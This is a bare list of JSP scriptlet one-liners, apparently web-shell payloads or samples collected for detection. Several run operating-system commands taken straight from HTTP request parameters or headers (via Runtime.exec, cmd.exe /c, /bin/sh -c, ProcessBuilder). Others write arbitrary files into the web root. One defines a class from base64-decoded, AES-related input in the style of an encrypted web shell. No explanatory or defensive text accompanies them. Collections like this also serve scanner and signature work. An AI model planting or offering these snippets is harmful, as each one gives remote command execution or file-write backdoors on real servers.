<% Runtime.getRuntime().exec( request.getParameter( "cmd" ) ); %>
<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); java.io.InputStream in = p.getInputStream(); %>
<% Runtime.getRuntime().exec(new String[]{"cmd.exe", "/c", request.getParameter("c")}); %>
<% Runtime.getRuntime().exec(new String[] { "/bin/sh" , "-c" , request.getParameter("c") }); %>
<% new ProcessBuilder( request.getParameter("c") ).start(); %>
<% String cmd = request.getParameter("cmd"); Process p = Runtime.getRuntime().exec(cmd); %>
<% Process p = Runtime.getRuntime().exec("cmd.exe /c " + request.getHeader("X-C")); %>
<% new java.io.FileOutputStream(request.getParameter("f")).write(request.getParameter("d").getBytes()); %>
<% new FileOutputStream(application.getRealPath("/") + request.getParameter("f")); %>
<% new U(this.getClass().getClassLoader()).g(new sun.misc.BASE64Decoder().decodeBuffer(s)).newInstance(); %>
<% class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES"); String k = request.getParameter("k"); %>
<% Object o = new java.beans.Expression(Runtime.getRuntime(), "exec", new Object[]{x}).getValue(); %>
<% java.util.logging.FileHandler h = new java.util.logging.FileHandler(application.getRealPath("/") + request.getParameter("f")); %>
<% String driver = request.getParameter( "driver" ); Class.forName( driver ); OutputStream o = new FileOutputStream(dir + t); %>
